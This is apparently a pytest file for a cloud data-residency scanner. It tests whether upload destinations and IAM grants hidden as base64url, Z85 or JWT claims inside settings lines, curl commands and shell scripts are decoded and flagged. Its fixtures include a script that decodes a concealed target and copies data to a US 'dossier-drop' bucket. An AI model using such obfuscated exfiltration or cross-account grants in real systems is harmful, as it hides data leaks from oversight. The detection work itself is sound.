"""Red-team round 83 of the residency pack: encoded words inside a longer text (a JWT in a header line or a
command, Z85 or base64url after a label, a script's literal), read by the scanner and the policy reader
(policies/core/encodings.py `embedded_encoded`); an elastic job target group's member server
(policies/core/named_refs.py) (corpus: tests/corpus/residency/*/r83-*.yaml).
"""

from __future__ import annotations

import base64
import json

import pytest
from policy_testlib import ALLOWED, OWN, REPLICATION, RESOLVED, graph, messages, pinned_res, res, unresolved

from policies.core.encodings import embedded_encoded
from policies.core.policy_text import decoded
from policies.core.references import scan

FN = "aws:lambda/function:Function"
US_URL = "https://dossier-drop.s3.us-east-1.amazonaws.com/in/"
_Z85 = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#"


def _z85(raw: bytes) -> str:
    """ZeroMQ RFC 32: big-endian 4-byte groups as 5 digits of base 85; the sender pads to 4 bytes."""
    raw += b"\0" * (-len(raw) % 4)
    groups = (int.from_bytes(raw[i:i + 4], "big") for i in range(0, len(raw), 4))
    return "".join("".join(_Z85[n // 85 ** k % 85] for k in range(4, -1, -1)) for n in groups)


def _b64url(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def _jwt(claims: dict) -> str:
    head = _b64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    return f"{head}.{_b64url(json.dumps(claims).encode())}.{_b64url(bytes(range(32)))}"


def _policy_of(account: str) -> dict:
    return {"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{account}:role/reporting"},
        "Action": ["s3:GetObject"], "Resource": ["arn:aws:s3:::eloket-data/*"]}]}


def _only_the_other_account_blocks(setting) -> None:
    """A function whose setting `setting(account)` grants that account: another's is found, the own passes."""
    views = {a: pinned_res(FN, "f", {"environment": {"variables": {"S": setting(a)}}})
             for a in ("444455556666", "123456789012")}
    found = messages(REPLICATION, views["444455556666"], ALLOWED)
    assert found and all("444455556666" in m for m in found), found
    assert messages(REPLICATION, views["123456789012"], ALLOWED) == []


def _server(name: str) -> object:
    inputs = {"resourceGroupName": "rg-weu", "serverName": name, "location": "westeurope",
              "id": f"{OWN}/Microsoft.Sql/servers/{name}"}
    return res("azure-native:sql:Server", name, inputs)


def _hosts(value: str) -> set[str]:
    return {r.value for r in scan({"environment": {"variables": {"X": value}}}) if r.kind in ("url", "host")}


@pytest.mark.parametrize("text", [
    "Authorization: Bearer {jwt}",                                           # r83-01: a header line
    "curl -sf -H 'Authorization: Bearer {jwt}' https://api.vlaanderen.be/x",  # r83-02: a command
    "mode=push retries=3 target {z85} timeout=30",                           # r83-03: a settings line
    "mode=push;target={z85};retries=3",                                      # the same after a label
    "mode=push target:{z85} retries=3",                                      # a `:` label, `=` in the Z85
    '_T = "{z85}"\nreq = Request(_unpack(_T), data=body, method="PUT")',     # r83-04: a script's literal
    "upload {b64url} now",                                                   # base64url, no decoder word
])
def test_an_encoded_word_inside_a_longer_text_is_read(text):
    """Round 82's lead 1: base64url, Z85 and a JWT's claims are decoded inside a text, not only whole."""
    assert "=" in _z85(US_URL.encode())
    value = text.format(jwt=_jwt({"sub": "export", "upload": US_URL}), z85=_z85(US_URL.encode()),
                        b64url=_b64url(US_URL.encode() + b"?k=~~~~"))  # `-` in it
    assert any(US_URL in t for t in embedded_encoded(value)), embedded_encoded(value)
    found = [r for r in scan({"environment": {"variables": {"X": value}}}) if "(decoded)" in r.path]
    assert any("us-east-1" in r.value for r in found), found


def test_plain_words_and_random_tokens_in_a_text_stay_unread():
    """What is no encoding of text decodes to nothing: names, hosts, ARNs, a key, a hash."""
    text = ("aws s3 cp s3://eloket-artifacts-eu/policy-sync.zip . --region eu-west-1 "
            "arn:aws:iam::123456789012:role/eloket-dossier-export eloket-dossier-export-function-prod "
            f"sha256:{'ab12' * 16} key={_z85(bytes(range(3, 243, 3)))} id={_b64url(bytes(range(7, 247, 7)))}")
    assert embedded_encoded(text) == ()


def test_a_policy_in_a_jwt_inside_a_command_is_read_as_a_grant():
    """r83-02: the policy reader decodes the JWT's claims inside a curl command and reads the policy."""
    def command(account: str) -> str:
        return f"curl -sf -H 'Authorization: Bearer {_jwt({'policy': _policy_of(account)})}' https://x.vlaanderen.be"

    assert any("444455556666" in t for t in decoded(command("444455556666"), "C"))
    _only_the_other_account_blocks(command)


def test_own_values_inside_a_text_pass():
    """good/r83-01: a bearer token issued and addressed by the own domain, a Z85 target on it."""
    token = _jwt({"iss": "https://login.vlaanderen.be", "aud": "https://api.vlaanderen.be/dossiers"})
    target = _z85(b"https://api.vlaanderen.be/dossiers/intake/")
    view = pinned_res(FN, "f", {"environment": {"variables": {
        "H": f"Authorization: Bearer {token}", "S": f"mode=push target {target} timeout=30"}}})
    assert messages(REPLICATION, view, ALLOWED) == []
    assert "api.vlaanderen.be" in str(_hosts(f"mode=push target {target} timeout=30"))


def _target_group(*members: dict) -> object:
    return res("azure-native:sql:JobTargetGroup", "g", {
        "resourceGroupName": "rg-weu", "serverName": "sql", "jobAgentName": "a", "targetGroupName": "t",
        "members": list(members)})


def test_an_elastic_job_target_groups_member_server_must_be_the_stacks():
    """r83-07: the agent runs the job's steps on every server its target group includes, named bare."""
    group = _target_group({"type": "SqlServer", "membershipType": "Include", "serverName": "partner-sql"})
    expected = unresolved("members.0.serverName", "partner-sql.database.windows.net")
    assert [m for _, m in messages(RESOLVED, graph(group), ALLOWED)] == [expected]
    server = _server("partner-sql")
    assert messages(RESOLVED, graph(group, server), ALLOWED) == []
    own = _target_group({"type": "SqlDatabase", "membershipType": "Exclude", "serverName": "partner-sql",
                         "databaseName": "scratch"})
    assert messages(RESOLVED, graph(own, server), ALLOWED) == []   # good/r83-04


# Wave 2: probes of wave 1's fix, and names written in another case.

def test_a_z85_policy_after_a_label_naming_a_bare_account_is_a_grant():
    """r83-08: `policy=<Z85>` inside a settings line, its principal a bare account id (no ARN the scanner
    sees): the policy prefilter reads the word too; the own account's passes (good/r83-07)."""
    def line(account: str) -> str:
        doc = _policy_of(account)
        doc["Statement"][0]["Principal"] = {"AWS": account}
        return f"bucket=eloket-data policy={_z85(json.dumps(doc).encode())} mode=replace"

    _only_the_other_account_blocks(line)


def test_a_jwt_cut_by_a_shell_line_continuation_is_read():
    """r83-11: inside double quotes the shell drops a backslash-newline, so the token is whole at run time."""
    token = _jwt({"sub": "export", "upload": US_URL})
    script = (f'CFG="{token[:70]}\\\n{token[70:]}"\n'
              'DEST="$(printf %s "$CFG" | base64 -d)"\naws s3 cp x "$DEST"\n')
    assert any(US_URL in t for t in embedded_encoded(script))
    found = [r for r in scan({"content": script}) if "(decoded)" in r.path]
    assert any("us-east-1" in r.value for r in found), found


def test_an_encoded_word_is_read_beside_a_decoder_words_literal():
    """A harmless base64 literal a script decodes does not hide a Z85 word beside it."""
    text = f"echo aGVsbG8gZnJvbSB0aGUgZXhwb3J0 | base64 -d; target {_z85(US_URL.encode())}"
    found = [r for r in scan({"environment": {"variables": {"X": text}}}) if "(decoded)" in r.path]
    assert any("us-east-1" in r.value for r in found), found


@pytest.mark.parametrize("inputs,path,host", [
    ({"members": [{"type": "SqlServer", "membershipType": "Include", "serverName": "SQL-Partner"}]},
     "members.0.serverName", "sql-partner.database.windows.net"),                            # r83-12
    ({"output": {"serverName": "Sql-Partner", "databaseName": "x", "tableName": "t"}},
     "output.serverName", "sql-partner.database.windows.net"),                               # r83-13
])
def test_a_sql_server_named_in_another_case_is_the_same_server(inputs, path, host):
    """Azure compares resource names without case and DNS ignores it: the name is read lowered."""
    refs = [(r.path, r.value) for r in scan(inputs)]
    assert (path, host) in refs, refs


def test_a_storage_account_named_in_another_case_is_the_same_account():
    """r83-14: a Cost Management export's bare `storageAccount` of mixed case is the same account."""
    inputs = {"deliveryInfo": {"destination": {"storageAccount": "FinopsPartner"}}}
    refs = [(r.kind, r.value) for r in scan(inputs)]
    assert ("named", "azure-native:storage:StorageAccount|finopspartner") in refs, refs


def test_the_stacks_own_server_in_upper_case_resolves():
    """good/r83-05: the own server written in upper case resolves to it."""
    group = _target_group({"type": "SqlServer", "membershipType": "Include", "serverName": "SQL-DOSIS-NE"})
    assert messages(RESOLVED, graph(group, _server("sql-dosis-ne")), ALLOWED) == []
